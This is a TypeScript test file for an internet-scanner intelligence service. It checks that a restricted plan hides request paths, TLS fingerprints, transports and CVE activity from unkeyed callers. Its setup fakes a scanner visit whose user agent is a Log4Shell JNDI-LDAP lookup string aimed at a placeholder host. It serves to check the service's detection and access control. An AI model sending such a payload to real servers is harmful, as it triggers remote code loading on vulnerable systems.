import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { entitlementIds } from '#model/entitlements.ts'
import { fieldGroups, restrictedPaths } from '#model/ip-document/groups.ts'
import { alert, clientHello, hellos } from '#demo/speak/tls.ts'
import { captureOf, eventually, webVisit } from '../product/captures.ts'
import type { Exchange } from '#demo/exchange.ts'
import { syn } from '#demo/speak/syn.ts'
import { openInside, type Inside } from '../product/inside.ts'

/** What a plan without the groups of fields gets to know of an address: from every call, page and file, and with a key all of it. */

let inside: Inside
let key = ''
const folder = mkdtempSync(join(tmpdir(), 'noisefloor-groups-'))
const ip = '198.18.7.9'
/** Stands in what was requested and nowhere else; the same request tries a CVE. */
const secret = 'zq7secretzq7'
/** JA3 of its TLS client, as its own record tells it. */
let ja3 = ''

beforeAll(async () => {
  const PLANS_FILE = join(folder, 'plans.json')
  const entitlements = entitlementIds.filter((id) => !fieldGroups.includes(id))
  writeFileSync(PLANS_FILE, JSON.stringify({ visitor: { entitlements, historicDays: 90 } }))
  inside = await openInside({ PLANS_FILE })
  const { deps } = inside
  const now = Date.now()
  const workspace = await deps.installation.workspaces.create({ name: 'Own', publish: true, now })
  key = (await deps.installation.keys.create({ workspace: workspace.id, now })).secret
  const userAgent = `\${jndi:ldap://${secret}/a}`
  const visit = webVisit(ip, { uri: `/${secret}?a=%2e`, userAgent }, now - 60_000)
  const greeted: Exchange = {
    ...visit,
    at: now - 50_000,
    sourcePort: visit.sourcePort + 1,
    destinationPort: 443,
    play: {
      kind: 'tcp',
      outcome: 'open',
      syn: syn.linux,
      turns: [
        { from: 'source', bytes: clientHello(hellos.go, new Uint8Array(32).fill(7)) },
        { from: 'destination', bytes: alert },
      ],
    },
  }
  const { status } = await call('/api/ingest/captures', key, {
    method: 'POST',
    body: new Uint8Array(captureOf([visit, greeted])),
  })
  expect(status).toBe(200)
  await deps.drained()
  interface Found {
    data?: { internet_scanner_intelligence: { raw_data: { ja3: { fingerprint: string }[] } } }[]
  }
  const text = await eventually(
    async () => (await call(`/v3/gnql?query=${query}`, key)).text(),
    (said) => said.includes(secret) && fingerprintIn(said) !== '',
  )
  ja3 = fingerprintIn(text)

  function fingerprintIn(said: string): string {
    const { data } = JSON.parse(said) as Found
    return data?.[0]?.internet_scanner_intelligence.raw_data.ja3[0]?.fingerprint ?? ''
  }
  expect(ja3).toMatch(/^[0-9a-f]{32}$/)
})
afterAll(async () => {
  await inside.close()
  rmSync(folder, { recursive: true, force: true })
})

const call = (path: string, withKey = '', init: RequestInit = {}) =>
  fetch(new URL(path, inside.url), {
    ...init,
    headers: { ...(withKey && { key: withKey }), ...init.headers },
  })
const posted = {
  method: 'POST',
  body: JSON.stringify({ ips: [ip] }),
  headers: { 'content-type': 'application/json' },
}

interface Call {
  path: string
  init?: RequestInit
}
const get = (...paths: string[]): Call[] => paths.map((path) => ({ path }))

const query = encodeURIComponent(`ip:${ip}`)
const records = [
  ...get(
    `/v3/ip/${ip}`,
    `/v3/gnql?query=${query}`,
    `/api/ip/${ip}`,
    `/api/ip/query?query=${query}`,
    `/api/ip/query?query=${query}&explain=1`,
  ),
  { path: '/v3/ip', init: posted },
]
const files = get(
  ...['csv', 'json', 'ndjson'].map((format) => `/api/ip/query?query=${query}&export_format=${format}`),
  `/v3/gnql?query=${query}&format=csv`,
)
const others = [
  ...get(
    `/v2/experimental/gnql?query=${query}`,
    `/v2/noise/context/${ip}`,
    `/v3/noise/ips/${ip}/hourly-summary`,
    `/v3/noise/ips/${ip}/daily-summary`,
    `/ip/${ip}`,
    `/ip/${ip}?tab=raw`,
    `/ip/${ip}.data`,
  ),
  { path: '/v2/noise/multi/context', init: posted },
]

describe('a plan without the groups of fields', () => {
  test.each([...records, ...files, ...others])(
    'tells nothing of them in $path, and with a key all',
    async ({ path, init }) => {
      const texts = [await call(path, '', init), await call(path, key, init)].map((answered) =>
        answered.text(),
      )
      const [without = '', whole = ''] = await Promise.all(texts)
      expect([without, whole].map((text) => [ip, secret, ja3].map((value) => text.includes(value)))).toEqual([
        [true, false, false],
        [true, true, true],
      ])
    },
  )

  test.each(records)('lists what is missing, under a status of its own, in $path', async ({ path, init }) => {
    const told = async (withKey: string) => {
      const answered = await call(path, withKey, init)
      const { request_metadata } = (await answered.json()) as {
        request_metadata: { restricted_fields: string[] }
      }
      return [answered.status, request_metadata.restricted_fields]
    }
    expect(await told('')).toEqual([206, restrictedPaths(fieldGroups)])
    expect(await told(key)).toEqual([200, []])
  })

  test('is refused a query, a timeline and a file over them, with what is missing', async () => {
    const missing = ['feature-ip-request-analysis']
    for (const path of [
      `/v3/gnql?query=-path:*${secret}*`,
      `/v3/gnql/stats?query=path:*${secret}*`,
      `/v2/experimental/gnql?query=path:*${secret}*`,
      `/api/ip/query?query=-path:*${secret}*`,
      `/api/ip/query?query=path:*${secret}*&export_format=csv`,
      `/api/ip/${ip}/timeline?field=http_path&days=1&granularity=1d`,
      `/v3/noise/ips/${ip}/timeline?field=http_user_agent&days=1&granularity=1d`,
    ]) {
      const refused = await call(path)
      expect({ path, status: refused.status }).toEqual({ path, status: 403 })
      expect(await refused.json(), path).toMatchObject({ missing })
      expect((await call(path, key)).status, path).toBe(200)
    }
    const page = await (await call(`/query/${encodeURIComponent(`path:*${secret}*`)}`)).text()
    expect(page).toContain('belongs to request analysis')
  })

  test('tells of CVEs what is everybody’s: neither which were seen, nor by which requests', async () => {
    const cve = 'CVE-2021-44228'
    const text = async (path: string, withKey = '') => (await call(path, withKey)).text()
    await eventually(
      () => text(`/api/cves/${cve}`, key),
      (told) => told.includes(secret),
    )
    for (const path of [
      `/api/cves/${cve}`,
      `/cves/${cve}`,
      `/cves/${cve}.data`,
      '/',
      '/_.data',
      '/tags',
      '/trends/active',
    ])
      expect([path, (await text(path)).includes(secret)]).toEqual([path, false])
    const page = await text(`/cves/${cve}`)
    expect(page).toContain('Not part of this plan: it belongs to')
    // Where it leads to all addresses, the query is one that the plan may ask.
    const links = [...page.matchAll(/href="(\/query\/[^"?]+)"/g)].map(([, href = '']) =>
      decodeURIComponent(href),
    )
    expect(links.filter((href) => href.includes(' OR ') || href.includes('tags:')).length).toBeGreaterThan(0)
    expect(links.filter((href) => href.includes('cve:'))).toEqual([])
    expect(await text('/')).not.toContain('CVEs seen')
    expect(await text('/', key)).toContain(cve)
    expect(JSON.parse(await text(`/api/cves/${cve}`))).toMatchObject({
      activity: { ports: [], paths: [], also_tried: [] },
      request_metadata: {
        restricted_fields: ['activity.ports', 'activity.paths', 'activity.also_tried'],
      },
    })
    // What a plan does not tell is not proposed either.
    const proposed = async (query: string, withKey = '') =>
      (
        JSON.parse(await text(`/api/suggestions?${query}`, withKey)) as {
          groups: { kind: string; items: { count: number | null }[] }[]
        }
      ).groups.map(({ kind, items }) => [kind, items[0]?.count])
    for (const [query, told] of [
      [`text=${secret}`, ['path', 1]],
      [`text=${ja3}`, ['fingerprint', 1]],
    ] as const) {
      expect(await proposed(query)).toEqual([])
      await eventually(
        () => proposed(query, key),
        (groups) => JSON.stringify(groups) === JSON.stringify([told]),
      )
    }
    expect(await proposed(`dataset=cves&text=${cve}`)).toEqual([['cve', null]])
    expect(await proposed(`dataset=cves&text=${cve}`, key)).toEqual([['cve', 1]])
    const first = async (withKey: string) =>
      (JSON.parse(await text('/api/tags/autocomplete', withKey)) as { cves: string[] }).cves[0]
    expect(await first('')).not.toBe(cve)
    expect(await first(key)).toBe(cve)
  })

  test('tells ports without their transports, no handshakes, and not when the address was last of a class', async () => {
    interface Told {
      internet_scanner_intelligence: {
        last_seen_malicious: string
        raw_data: { scan: { port: number; protocol: string }[]; tls: { ja4: string[] } }
      }
    }
    const told = async (withKey = '') => {
      const { internet_scanner_intelligence: record } = (await (
        await call(`/v3/ip/${ip}`, withKey)
      ).json()) as Told
      const { scan, tls } = record.raw_data
      return [scan, tls.ja4.length, record.last_seen_malicious.length]
    }
    const ports = (protocol: string) => [80, 443].map((port) => ({ port, protocol }))
    expect(await told()).toEqual([expect.arrayContaining(ports('')), 0, 0])
    expect(await told(key)).toEqual([expect.arrayContaining(ports('tcp')), 1, '2026-11-24'.length])
    // Told nowhere else: neither beside the record on its page, nor in files, summaries and reports.
    for (const path of [
      `/ip/${ip}`,
      `/api/ip/query?query=${query}&export_format=csv`,
      `/api/ip/query?query=${query}&export_format=json`,
      `/v3/noise/ips/${ip}/daily-summary`,
      '/cves/CVE-2021-44228',
      '/api/cves/CVE-2021-44228',
    ]) {
      const transport = /\b(?:80|443)\/tcp\b|"(?:protocol|transport|transport_protocol)":"tcp"/i
      const texts = await Promise.all([call(path), call(path, key)].map(async (one) => (await one).text()))
      expect([path, texts.map((text) => transport.test(text))]).toEqual([path, [false, true]])
    }
    for (const [asked, group] of [
      ['raw_data.scan.protocol:tcp', 'feature-ip-protocol-insights'],
      ['-ja4:t13*', 'feature-ip-protocol-insights'],
      ['last_seen_malicious:1d', 'feature-ip-access-insights'],
    ] as const) {
      const refused = await call(`/v3/gnql?query=${encodeURIComponent(asked)}`)
      expect([asked, refused.status, await refused.json()]).toMatchObject([asked, 403, { missing: [group] }])
    }
    expect((await call(`/v3/gnql?query=${encodeURIComponent('port:80')}`)).status).toBe(206)
  })

  test('counts no values of them', async () => {
    const stats = async (withKey = '') => {
      const answered = await call(`/v3/gnql/stats?query=ip:${ip}`, withKey)
      return ((await answered.json()) as { stats: Record<string, unknown> }).stats
    }
    expect((await stats())['destination_countries']).toBeNull()
    expect((await stats(key))['classifications']).toEqual((await stats())['classifications'])
  })
})
